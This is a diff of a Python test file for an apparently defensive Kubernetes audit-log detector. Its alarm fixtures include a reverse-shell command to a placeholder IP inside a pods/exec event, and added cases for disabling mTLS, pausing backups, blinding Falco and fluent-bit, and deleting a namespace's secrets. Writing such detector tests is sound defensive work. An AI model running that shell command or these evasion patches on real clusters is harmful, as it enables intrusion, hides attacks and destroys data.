@@ -116,6 +116,33 @@ ALARMS = {
         audit("create", "pods/exec", body={"command": ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.4/443 0>&1"]}, user=PERSON),
         Trait.USES_ATTACK_TOOL,
     ),
+    "traffic in the clear": (
+        audit("patch", "peerauthentications.security.istio.io", body={"spec": {"mtls": {"mode": "DISABLE"}}}, user=PERSON),
+        Trait.WEAKENS_PROTECTION,
+    ),
+    "no backups until further notice": (
+        audit("patch", "schedules.velero.io", body={"spec": {"paused": True}}, user=PERSON),
+        Trait.WEAKENS_PROTECTION,
+    ),
+    "a volume that will go with its claim": (
+        audit("patch", "persistentvolumes", namespace="", body={"spec": {"persistentVolumeReclaimPolicy": "Delete"}}, user=PERSON),
+        Trait.WEAKENS_PROTECTION,
+    ),
+    "a watcher scaled to nothing": (
+        audit("patch", "deployments.apps/scale", name="falcosidekick", body={"spec": {"replicas": 0}}, user=PERSON),
+        Trait.STOPS_DETECTION,
+    ),
+    "a watcher sent to nodes that do not exist": (
+        audit("patch", "daemonsets.apps", name="falco", body={"spec": {"template": {"spec": {"nodeSelector": {"x": "y"}}}}}, user=PERSON),
+        Trait.STOPS_DETECTION,
+    ),
+    "a log shipper sent to nodes that do not exist": (
+        audit(
+            "patch", "daemonsets.apps", name="fluent-bit", body={"spec": {"template": {"spec": {"nodeSelector": {"x": "y"}}}}}, user=PERSON
+        ),
+        Trait.STOPS_LOGGING,
+    ),
+    "every secret of a namespace": (audit("deletecollection", "secrets", name="", user=PERSON), Trait.DELETES_DATA),
     "a port of every node": (audit("create", "services", body=service("NodePort"), user=PERSON), Trait.OPENS_NETWORK),
     "workloads in every namespace": (
         audit("create", f"clusterroles.{RBAC}", namespace="", body=role("ClusterRole", "pods"), user=PERSON),
@@ -143,6 +170,10 @@ DAILY = {
     "Argo CD's settings": audit(
         "patch", "configmaps", namespace="argocd", name="argocd-cm", body={"data": {"timeout.reconciliation": "60s"}}, user=PERSON
     ),
+    "a volume that will be kept": audit(
+        "patch", "persistentvolumes", namespace="", body={"spec": {"persistentVolumeReclaimPolicy": "Retain"}}, user=PERSON
+    ),
+    "fewer of something else": audit("patch", "deployments.apps/scale", name="api", body={"spec": {"replicas": 0}}, user=PERSON),
     "constraints that allow nothing more": audit(
         "create", SCC, body={"kind": "SecurityContextConstraints", "allowPrivilegedContainer": False}, user=PERSON
     ),
@@ -205,7 +236,7 @@ def test_what_follows_an_accounts_ordinary_deploy_is_planned_still() -> None:
 
 def test_an_edit_of_what_git_owns_is_a_hands_though_a_snapshot_names_nobody() -> None:
     owned = {"labels": {"argocd.argoproj.io/instance": "shop"}}
-    fields = {"f:spec": {"f:template": {"f:spec": {"f:containers": {}}}}}
+    fields: JsonObject = {"f:spec": {"f:template": {"f:spec": {"f:containers": {}}}}}
     edited = {"manager": "kubectl-edit", "operation": "Update", "time": "2026-11-24T08:59:00Z", "fieldsV1": fields}
     (one,) = judged_snapshots(
         deployment("api:1", metadata=owned), deployment("api:hot", version="2", metadata={**owned, "managedFields": [edited]})
